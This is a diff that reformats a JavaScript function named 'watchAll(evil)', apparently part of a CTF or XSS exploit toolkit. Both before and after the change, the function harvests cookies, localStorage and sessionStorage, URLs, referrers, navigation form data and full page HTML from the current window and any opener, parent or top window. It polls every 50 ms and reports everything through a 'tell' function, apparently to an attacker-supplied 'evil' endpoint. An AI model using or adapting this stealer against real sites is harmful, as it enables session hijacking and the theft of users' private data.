@@ -19,8 +19,15 @@ export function watchAll(evil) {
     sent.add(text);
   };
   const tries = [
-    (w) => w.location.href, (w) => w.document.referrer, (w) => w.name, (w) => [w.history.state], (w) => w.navigation.entries().map(({ url }) => url), (w) => w.document.cookie,
-    (w) => w.performance.getEntries().map((entry) => JSON.stringify(entry)), (w) => [Object.entries(w.localStorage), Object.entries(w.sessionStorage)], (w) => w.document.documentElement.outerHTML,
+    (w) => w.location.href,
+    (w) => w.document.referrer,
+    (w) => w.name,
+    (w) => [w.history.state],
+    (w) => w.navigation.entries().map(({ url }) => url),
+    (w) => w.document.cookie,
+    (w) => w.performance.getEntries().map((entry) => JSON.stringify(entry)),
+    (w) => [Object.entries(w.localStorage), Object.entries(w.sessionStorage)],
+    (w) => w.document.documentElement.outerHTML,
   ];
   const look = () => {
     for (const name of ["opener", "parent", "top"]) if (globalThis[name]) windows.add(globalThis[name]);
@@ -39,7 +46,9 @@ export function watchAll(evil) {
   addEventListener("securitypolicyviolation", ({ blockedURI, documentURI, sample }) => tell([blockedURI, documentURI, sample]));
   for (const type of ["pagehide", "pageshow", "load", "beforeunload"]) addEventListener(type, look);
   navigation.addEventListener("navigate", ({ destination, formData }) => tell([destination.url, formData && [...formData]]));
-  new PerformanceObserver((list) => tell(list.getEntries().map((entry) => JSON.stringify(entry)))).observe({ entryTypes: PerformanceObserver.supportedEntryTypes });
+  new PerformanceObserver((list) => tell(list.getEntries().map((entry) => JSON.stringify(entry)))).observe({
+    entryTypes: PerformanceObserver.supportedEntryTypes,
+  });
   new ReportingObserver((reports) => tell(reports.map((report) => JSON.stringify(report))), { buffered: true }).observe();
   setInterval(look, 50);
 }
